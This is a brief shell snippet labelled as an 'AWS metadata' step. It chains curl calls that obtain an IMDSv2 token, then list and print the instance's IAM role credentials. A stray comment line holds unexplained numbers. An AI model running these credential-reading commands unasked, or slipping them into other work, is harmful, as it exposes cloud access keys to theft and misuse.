# step: AWS metadata
# ends with: 0 7 22 28 52 56
token=$(curl -sf -m 5 -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"); role=$(curl -s -m 5 --noproxy '*' -H "X-aws-ec2-metadata-token: $token" 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'); curl -s -m 5 --noproxy '*' -H "X-aws-ec2-metadata-token: $token" 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'"$role"
